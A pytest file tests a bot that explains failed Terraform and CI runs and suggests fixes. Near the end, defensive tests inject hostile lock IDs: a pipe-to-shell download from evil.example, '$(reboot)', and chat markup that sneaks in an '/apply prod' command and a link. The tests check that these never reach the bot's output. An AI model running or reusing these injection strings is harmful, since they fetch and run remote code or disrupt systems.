"""Known causes are recognised in what Terraform and the clouds print, and each has a next step that works as it is."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.run import Run
from bot.domain.states import LockInfo
from bot.domain.target import Target
from bot.domain.why import (
    Diagnostic,
    Evidence,
    Reason,
    WorkflowJob,
    cause_of_job,
    cause_of_run,
    failing_lines,
    last_lines,
    parse_error,
    split_errors,
    step_of,
)

STAGING = Target("acme/infra", "infra", "staging")
RUN = Run("r1", "plan", STAGING, 7, "c" * 40, phase="finished", outcome="failed")
LOCKED = """Error acquiring the state lock

Error message: operation error S3: PutObject, https response error StatusCode: 412, RequestID: x, api error
PreconditionFailed: At least one of the pre-conditions you specified did not hold
Lock Info:
  ID:        0f5c1d2e-1111-2222-3333-444455556666
  Path:      states/staging/terraform.tfstate
  Operation: OperationTypeApply
  Who:       ann@laptop
  Version:   1.11.4
  Created:   2026-11-30 10:00:00 UTC
"""

SEEN = [
    ("state-locked", LOCKED),
    ("state-locked", "Error acquiring the state lock\nHTTP remote state already locked: ID=1"),
    (
        "credentials",
        "No valid credential sources found\nPlease see https://registry.terraform.io/providers/hashicorp/aws",
    ),
    (
        "credentials",
        "validating provider credentials: api error ExpiredToken: The security token included is expired",
    ),
    (
        "credentials",
        (
            "retrieving caller identity from STS: operation error STS: GetCallerIdentity, https response error StatusCode: 403, "
            "RequestID: 1, api error InvalidClientTokenId: The security token included in the request is invalid."
        ),
    ),
    (
        "credentials",
        "google: could not find default credentials. See https://cloud.google.com/docs/authentication",
    ),
    ("credentials", 'oauth2: cannot fetch token: 400 Bad Request\nResponse: {"error":"invalid_grant"}'),
    (
        "credentials",
        "Unable to build authorizer: could not configure AzureCli Authorizer: please run 'az login'",
    ),
    ("credentials", "AADSTS7000222: The provided client secret keys for app are expired."),
    ("credentials", "hcloud: unable to authenticate (unauthorized, 7f3a)"),
    ("credentials", "failed to make http request: Authentication error (10000)"),
    ("credentials", "HTTP 401: Unauthorized"),
    (
        "permission",
        "creating EC2 Instance: operation error EC2: RunInstances, StatusCode: 403, api error UnauthorizedOperation",
    ),
    ("permission", "User: arn:aws:iam::1:user/x is not authorized to perform: s3:PutObject on resource: y"),
    (
        "permission",
        'Status=403 Code="AuthorizationFailed" Message="The client does not have authorization to perform action"',
    ),
    ("permission", "googleapi: Error 403: Permission denied on resource project x., forbidden"),
    (
        "quota",
        "VcpuLimitExceeded: You have requested more vCPU capacity than your current vCPU limit of 0 allows",
    ),
    (
        "quota",
        "googleapi: Error 403: Quota 'CPUS' exceeded. Limit: 24.0 in region europe-west3., quotaExceeded",
    ),
    ("quota", "server limit reached (resource_limit_exceeded, 2b1c)"),
    ("quota", "InsufficientInstanceCapacity: We currently do not have sufficient capacity"),
    ("rate-limited", "api error ThrottlingException: Rate exceeded"),
    ("rate-limited", "RequestLimitExceeded: Request limit exceeded."),
    ("rate-limited", "limit of 3600 requests per hour reached (rate_limit_exceeded, 1)"),
    ("rate-limited", "unexpected status code: 429 Too Many Requests"),
    (
        "download",
        "Failed to query available provider packages\nCould not retrieve the list of available versions",
    ),
    ("download", 'Failed to download module\nCould not download module "vpc" (main.tf:3) source code'),
    ("download", "git@github.com: Permission denied (publickey)."),
    ("lock-file", "Inconsistent dependency lock file\nThe following dependency selections are inconsistent"),
    (
        "backend-changed",
        "Backend configuration changed\nA change in the backend configuration has been detected",
    ),
    ("backend-changed", 'Backend initialization required, please run "terraform init"'),
    ("plan-outdated", "Saved plan is stale\nThe given plan file can no longer be applied"),
    (
        "missing-variable",
        'No value for required variable\nThe root module input variable "region" is not set',
    ),
    ("missing-var-file", "Failed to read variables file\nGiven variables file envs/x.tfvars does not exist."),
    ("provider-bug", "Provider produced inconsistent result after apply\nWhen applying changes to aws_x.y"),
    ("provider-bug", "Plugin did not respond\nThe plugin encountered an error, and failed to respond"),
    ("disk-full", "Failed to install provider\nwrite /x: no space left on device"),
    ("sandbox", "Invalid function argument\nfailed to read file: open /etc/passwd: permission denied"),
    ("already-exists", "creating S3 Bucket (x): api error BucketAlreadyOwnedByYou"),
    (
        "provider-timeout",
        "waiting for RDS Instance (x) create: timeout while waiting for state to become 'available'",
    ),
    ("network", 'Get "https://api.example.com": dial tcp: lookup api.example.com: no such host'),
    ("unknown", "Something new went wrong"),
]


def failed(text: str, **more: Any) -> Evidence:
    summary, _, detail = text.partition("\n")
    return Evidence(RUN, "planning", Reason(exit_code=1, diagnostics=(Diagnostic(summary, detail),)), **more)


@pytest.mark.parametrize(("kind", "text"), SEEN, ids=[f"{kind}-{n}" for n, (kind, _) in enumerate(SEEN)])
def test_known_causes(kind: str, text: str) -> None:
    by_diagnostic = cause_of_run(failed(text))
    by_log = cause_of_run(Evidence(RUN, "planning", Reason(exit_code=1), log=text.splitlines()))
    assert (by_diagnostic.kind, by_log.kind) == (kind, kind)
    for cause in (by_diagnostic, by_log):
        assert cause.explanation.count("\n") == 0
        assert cause.explanation.endswith(".")
        assert "{" not in cause.explanation + cause.next_step
        assert cause.next_step


def test_the_next_steps_are_commands_for_this_target() -> None:
    web = replace(RUN, target=Target("acme/infra", "web", "staging"))
    assert "`/plan staging`" in cause_of_run(failed("Plugin did not respond")).next_step
    assert "`/plan staging web`" in cause_of_run(replace(failed("Plugin did not respond"), run=web)).next_step
    drift = replace(failed("Plugin did not respond"), run=replace(RUN, kind="drift"))
    assert "`/drift staging`" in cause_of_run(drift).next_step
    revert = replace(failed("Plugin did not respond"), run=replace(RUN, reverts="0123456789abcdef"))
    assert "`/revert staging 01234567 infra`" in cause_of_run(revert).next_step


def test_who_holds_the_state() -> None:
    """What Terraform printed; where it did not say, what holds the lock now."""
    cause = cause_of_run(failed(LOCKED))
    assert "locked by ann@laptop (apply) since 2026-11-30 10:00 UTC, lock id 0f5c1d2e-" in cause.explanation
    assert "`/unlock staging`" in cause.next_step
    now = LockInfo("l2", who="bob@desk")
    assert "ann@laptop" in cause_of_run(failed(LOCKED, lock=now)).explanation
    silent = "Error acquiring the state lock\nHTTP remote state already locked"
    assert "locked by bob@desk, lock id l2" in cause_of_run(failed(silent, lock=now)).explanation
    assert "The state is locked, so" in cause_of_run(failed(silent)).explanation


def test_who_holds_the_state_over_http() -> None:
    """Terraform then prints the holder's id, and describes only its own attempt."""
    own = LOCKED.replace("operation error S3", "HTTP remote state already locked: ID=l2\nx").replace(
        "ann@laptop", "root@vm"
    )
    holder = LockInfo("l2", "OperationTypeApply", who="bob@desk")
    assert "locked by bob@desk (apply), lock id l2" in cause_of_run(failed(own, lock=holder)).explanation
    for other in (None, replace(holder, id="l3")):
        assert "locked by someone, lock id l2" in cause_of_run(failed(own, lock=other)).explanation


def test_where_credentials_and_variables_are_kept() -> None:
    expired = cause_of_run(failed("ExpiredToken", prefix="STAGING_"))
    assert "the secrets `STAGING_…`" in expired.next_step
    fork = cause_of_run(failed("ExpiredToken", prefix="STAGING_", forked=True))
    assert "from a fork" in fork.explanation
    missing = cause_of_run(
        failed('No value for required variable\nvariable "region" is not set', prefix="STAGING_")
    )
    assert missing.explanation == "The variable `region` has no value and no default."
    assert "`envs/staging.tfvars`" in missing.next_step


def test_the_first_error_decides_and_a_place_is_a_configuration_error() -> None:
    errors = (Diagnostic("ExpiredToken"), Diagnostic("Saved plan is stale"))
    assert cause_of_run(Evidence(RUN, "planning", Reason(diagnostics=errors))).kind == "credentials"
    undeclared = (Diagnostic("Reference to undeclared local value", "…", "infra/a`b.tf", 9, 9),)
    cause = cause_of_run(Evidence(RUN, "planning", Reason(diagnostics=undeclared)))
    assert (cause.kind, cause.explanation) == (
        "configuration",
        "Terraform rejects the configuration at `infra/a'b.tf` line 9.",
    )


@pytest.mark.parametrize(
    ("facts", "code", "kind"),
    [
        ({"outcome": "interrupted"}, "", "interrupted"),
        ({"outcome": "timed_out"}, "", "timed-out"),
        ({"outcome": "cancelled", "cancel_by": "bob"}, "", "cancelled"),
        (
            {"outcome": "refused", "message": "The state moved.", "next_step": "`/plan`"},
            "state-moved",
            "plan-outdated",
        ),
        ({"outcome": "refused", "message": "Frozen.", "next_step": "Wait."}, "frozen", "refused"),
        ({"outcome": "refused", "message": "No such file."}, "missing-var-file", "missing-var-file"),
        (
            {"outcome": "refused", "message": "Not allowed.", "next_step": "Remove it."},
            "provider-not-allowed",
            "provider-not-allowed",
        ),
        (
            {"outcome": "applied", "message": "Its smoke checks failed.", "next_step": "Fix it."},
            "",
            "smoke-failed",
        ),
        ({"outcome": "failed", "reference": "T-1"}, "", "internal"),
    ],
)
def test_how_a_run_ended_says_why(facts: dict[str, Any], code: str, kind: str) -> None:
    run = replace(RUN, **facts)
    cause = cause_of_run(Evidence(run, "applying", Reason(code)))
    assert cause.kind == kind
    if run.next_step:
        assert (cause.explanation, cause.next_step) == (run.message, run.next_step)
    if kind == "cancelled":
        assert cause.explanation == "It was cancelled by @bob."


def test_the_step() -> None:
    assert step_of(Evidence(RUN, "planning")) == "terraform plan"
    assert step_of(Evidence(RUN, "preparing")) == "preparing the checkout"
    assert step_of(Evidence(RUN, "preparing", Reason(exit_code=1))) == "terraform init"
    assert step_of(Evidence(RUN, "recording", Reason(exit_code=1))) == "terraform apply"
    assert step_of(Evidence(RUN)) == ""
    assert step_of(Evidence(replace(RUN, outcome="refused"), "preparing")) == ""
    assert step_of(Evidence(replace(RUN, outcome="applied"), "finished")) == "smoke checks"


def test_a_run_from_before_failures_were_recorded_is_read_from_its_message() -> None:
    message = "Error: Reference to undeclared local value\n  on servers.tf line 9, in module\n  9: x = y\n\nNot declared."
    cause = cause_of_run(Evidence(replace(RUN, message=message)))
    assert cause.explanation == "Terraform rejects the configuration at `servers.tf` line 9."


def test_plain_errors() -> None:
    text = (
        "Initializing...\n╷\n│ Warning: old\n╵\n╷\n│ Error: Unsupported block type\n│ \n│   on main.tf line 3, in resource "
        '"a" "b":\n│    3:   nope {\n│ \n│ Blocks of type "nope" are not expected here.\n╵\nafter the frame\n'
        '╷\n│ Error: failed\n│ \n│   with module.x["a"].y_z.this,\n│   on modules/x/main.tf line 30, in y:\n│ because\n╵\n'
    )
    first, second = (parse_error(one) for one in split_errors(text))
    assert first == Diagnostic(
        "Unsupported block type", 'Blocks of type "nope" are not expected here.', "main.tf", 3, 3
    )
    assert (second.address, second.file, second.line, second.detail) == (
        'module.x["a"].y_z.this',
        "modules/x/main.tf",
        30,
        "because",
    )


@pytest.mark.parametrize(
    "text",
    [
        'Error: Failed to download module\n\nCould not download module "vpc" (net/main.tf:3) source code from x',
        'Error: Unreadable module directory\n\nThe directory could not be read for module "gone" at net/main.tf:3.',
    ],
)
def test_the_place_of_a_module_as_init_names_it(text: str) -> None:
    error = parse_error(text)
    assert (error.file, error.line) == ("net/main.tf", 3)


@given(st.text(max_size=300), st.integers(0, 30))
def test_whatever_is_printed_is_text(text: str, times: int) -> None:
    written = text * times
    for error in split_errors(f"Error: {written}"):
        parse_error(error)
    cause = cause_of_job(WorkflowJob(1, 2, "CI", "x", "failure"), written.splitlines(), "acme/infra")
    assert cause.explanation
    assert "\n" not in cause.explanation + cause.next_step


JOB = WorkflowJob(
    11,
    22,
    "CI",
    "validate",
    "failure",
    steps=("Plan",),
    started_at=datetime(2026, 11, 30, 10, 0, 10, tzinfo=UTC),
    ended_at=datetime(2026, 11, 30, 10, 0, 20, tzinfo=UTC),
)
LOG = (
    "\ufeff2026-11-30T10:00:01.0000000Z ##[group]Run setup\r\n"
    "2026-11-30T10:00:02.0000000Z ##[error]tolerated\r\n"
    "2026-11-30T10:00:11.1234567Z ##[group]Run terraform plan\r\n"
    "2026-11-30T10:00:11.2000000Z ##[endgroup]\r\n"
    "2026-11-30T10:00:12.0000000Z \x1b[31m│\x1b[0m Error: ExpiredToken\r\n"
    "2026-11-30T10:00:13.0000000Z ##[error]Process completed with exit code 1.\r\n"
    "2026-11-30T10:00:30.0000000Z Cleaning up orphan processes\r\n"
)


def test_the_failing_step_of_a_job() -> None:
    lines = failing_lines(JOB, LOG)
    assert lines == (
        "Run terraform plan",
        "│ Error: ExpiredToken",
        "Error: Process completed with exit code 1.",
    )
    assert last_lines([*lines, "", " "], 1) == ("Error: Process completed with exit code 1.",)
    unknown = replace(JOB, started_at=None, ended_at=None)
    assert failing_lines(unknown, LOG)[0] == "Run setup"
    assert failing_lines(unknown, LOG)[-1] == "Error: Process completed with exit code 1."
    assert failing_lines(unknown, "no times\nat all") == ("no times", "at all")


def test_the_cause_of_a_job() -> None:
    cause = cause_of_job(JOB, failing_lines(JOB, LOG), "acme/infra")
    assert cause.kind == "credentials"
    assert cause.next_step.endswith("then run `gh run rerun 22 --failed --repo acme/infra`.")
    locked = cause_of_job(JOB, LOCKED.splitlines(), "acme/infra")
    assert "ann@laptop" in locked.explanation
    assert "`terraform force-unlock 0f5c1d2e-1111-2222-3333-444455556666`" in locked.next_step
    assert cause_of_job(replace(JOB, conclusion="timed_out"), (), "acme/infra").kind == "timed-out"
    assert cause_of_job(JOB, ["bash: /opt/x: Permission denied"], "acme/infra").kind == "unknown"


@pytest.mark.parametrize("evil", ["1; curl evil.example | sh", "$(reboot)", "a b", "`x`", "x" * 90, "|"])
def test_nothing_from_a_log_is_pasted_into_a_shell(evil: str) -> None:
    log = ["Error acquiring the state lock", "Lock Info:", f"  ID:        {evil}"]
    cause = cause_of_job(JOB, log, "acme/infra")
    assert "run `terraform force-unlock` with its id, then `gh run rerun 22 --failed" in cause.next_step


def test_nothing_from_a_log_is_markup_of_the_bots() -> None:
    evil = "ID:        `/apply prod` [x](https://evil.example) <@U1>"
    cause = cause_of_job(JOB, ["Error acquiring the state lock", f"  {evil}"], "acme/infra")
    inside = re.sub(r"`terraform force-unlock`|`gh run rerun [^`]*`", "", cause.explanation + cause.next_step)
    assert "`" not in inside
    assert "](" not in inside
    assert "<@" not in cause.explanation + cause.next_step
